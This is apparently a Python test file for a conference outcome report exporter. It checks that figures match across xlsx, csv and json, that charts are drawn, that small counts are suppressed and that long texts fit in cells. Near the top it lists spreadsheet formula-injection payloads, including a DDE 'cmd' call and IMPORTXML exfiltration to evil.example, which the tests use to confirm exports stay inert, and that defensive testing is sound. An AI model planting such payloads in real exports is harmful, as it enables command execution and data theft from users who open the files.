"""The outcome report in its forms: the same numbers, native charts, no formulas, small numbers."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from forum.spreadsheets import CELL_LIMIT, Sheet, to_csv, to_xlsx
from outcomes import participation
from outcomes.outcome_report import as_data, outcome_report, records
from surveys.cells import CELL_MINIMUM, OTHER
from tests import factories
from tests.outcomes.reports import filed
from tests.outcomes.sessions import make_staffed_session, seal_survey

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "'=", " =", "\n=", "|", "%0A=", ";="]
ENDS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","x")',
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
]
PAYLOADS = [start + end for start in STARTS for end in ENDS]


@pytest.fixture
def session(organizer, rapporteur):
    return make_staffed_session(organizer, rapporteur)


def book_of(report):
    return load_workbook(io.BytesIO(to_xlsx(report.sheets, "Report")))


def test_sixty_payloads_in_names_and_titles_make_no_formula(edition, organizer):
    assert len(PAYLOADS) == 60
    for number, payload in enumerate(PAYLOADS, start=1):
        workshop = factories.make_session(title=payload, organizer=organizer, number=number)
        factories.make_contributor(workshop, "speaker", person=factories.make_person(payload))
    report = outcome_report(edition)

    book = book_of(report)
    lines = list(csv.reader(io.StringIO(to_csv(report.sessions).decode(), newline="")))

    cells = [cell for page in book for row in page.iter_rows() for cell in row]
    titles = {cell.value for cell in book["Sessions"]["D"]}
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert "=1+1" in titles
    assert len(lines) == 61
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert [cell for line in lines for cell in line if cell.startswith(starts)] == []


def test_the_workbook_has_native_charts_of_its_own_cells(edition, session):
    archive = zipfile.ZipFile(io.BytesIO(to_xlsx(outcome_report(edition).sheets, "Report")))

    charts = [name for name in archive.namelist() if name.startswith("xl/charts/chart")]
    drawn = archive.read("xl/charts/chart1.xml").decode()

    assert len(charts) == 4
    assert "'By theme'!$E$2" in drawn


def test_every_form_has_the_same_numbers(
    edition, session, organizer, rapporteur, secretariat, as_user
):
    seal_survey(session, organizer, people=12)
    filed(session, rapporteur)
    client, start = as_user(secretariat), f"/secretariat/exports/{edition.year}/outcome-report"

    data = client.get(f"{start}.json").json()
    book = load_workbook(io.BytesIO(client.get(f"{start}.xlsx").content))
    text = client.get(f"{start}.csv").content.decode()

    page = book["Sessions"]
    of_xlsx = dict(zip([c.value for c in page[1]], [c.value for c in page[2]], strict=True))
    of_csv = next(csv.DictReader(io.StringIO(text, newline="")))
    of_json = data["sessions"][0]
    numbers = ("Joined, room", "Joined, online", "Reported people, room", "Report version")
    assert [of_json[name] for name in numbers] == [6, 6, 40, 1]
    assert [of_xlsx[name] for name in numbers] == [6, 6, 40, 1]
    assert [of_csv[name] for name in numbers] == ["6", "6", "40", "1"]
    assert {of_json["Key results"]} == {of_xlsx["Key results"], of_csv["Key results"]}
    assert of_json["Key takeaways"] == "People decide.\nTrust is built by audits."
    assert of_json["Report state"] == "in time"
    assert data["by_type"][0]["Joined surveys, room"] == 6
    assert data["licence"] == "CC BY 4.0"


def test_participation_hides_small_numbers(edition, organizer):
    theme, other = factories.make_theme(edition), factories.make_theme(edition)
    add_people(theme, {"Civil Society": 12, "Government": 2})
    add_people(other, {"Civil Society": 7, "Government": 9})

    shares = records(outcome_report(edition).shares)

    of_themes = [
        row for row in shares if row["By"] == "Theme" and row["Across"] == "Stakeholder group"
    ]
    assert {row["Row"] for row in of_themes} == {theme.title, other.title}
    assert [r for r in of_themes if r["Number"] and 0 < r["Number"] < CELL_MINIMUM] == []
    assert [r["Number"] for r in of_themes if r["In words"] in ("under 5", "held back")] != []
    assert {r["Number"] for r in of_themes if r["In words"] in ("under 5", "held back")} == {None}


def test_groups_under_ten_people_share_a_row(edition, organizer):
    add_people(factories.make_theme(edition), {"Civil Society": 12})
    add_people(factories.make_theme(edition), {"Government": 3, "Private Sector": 11})

    shares = records(outcome_report(edition).shares)

    rows = {r["Row"] for r in shares if r["By"] == "Stakeholder group" and r["Across"] == "Door"}
    assert "Government" not in rows
    assert OTHER in rows or rows == set()


def add_people(theme, groups: dict[str, int]) -> None:
    """A session of the theme with so many speakers of each group, and nobody else counted."""
    workshop = factories.make_session(theme=theme)
    workshop.contributors.update(listed=False)
    for group, number in groups.items():
        for _ in range(number):
            factories.make_contributor(
                workshop, "speaker", person=factories.make_person(group=group)
            )


def test_a_person_counts_once_in_a_row(edition, organizer):
    theme = factories.make_theme(edition)
    person = factories.make_person()
    for _ in range(12):
        workshop = factories.make_session(theme=theme)
        workshop.contributors.update(listed=False)
        factories.make_contributor(workshop, "speaker", person=person)
    add_people(factories.make_theme(edition), {"Civil Society": 12})

    report = outcome_report(edition)

    by_theme = [s for s in participation.shares(edition, report.rows) if s.by == "Theme"]
    assert [one for one in by_theme if one.row == theme.title] == []


def test_an_edition_without_sessions_has_empty_sheets(edition):
    report = outcome_report(edition)

    assert [sheet.rows() for sheet in report.sheets if isinstance(sheet, Sheet)][0] == []
    assert as_data(report)["participation"] == []
    assert book_of(report).sheetnames[0] == "Sessions"


def test_long_texts_fit_into_cells(edition, session, rapporteur):
    filed(session, rapporteur, narrative="word " * 10_000)

    book = book_of(outcome_report(edition))

    longest = max(len(str(c.value or "")) for row in book["Sessions"].iter_rows() for c in row)
    assert longest <= CELL_LIMIT
